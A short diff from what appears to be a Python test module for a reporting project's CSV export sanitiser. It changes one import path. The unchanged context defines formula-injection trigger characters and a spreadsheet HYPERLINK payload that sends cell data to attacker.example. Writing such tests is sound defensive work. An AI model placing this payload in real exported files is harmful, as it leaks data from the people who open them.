@@ -13,8 +13,8 @@ from lotline.kpis import export as kpi_export
 from lotline.kpis.queries import SnapshotRow
 from lotline.models import Customer
 from lotline.reports import csv_safe, fsma204
-from tests.recalls.conftest import build_world
 from tests.reports.test_fsma204 import EVENTS
+from tests.worlds import build_world
 
 LEADING = ["=", "+", "-", "@", "\t", "\r"]
 PAYLOAD = "HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")"
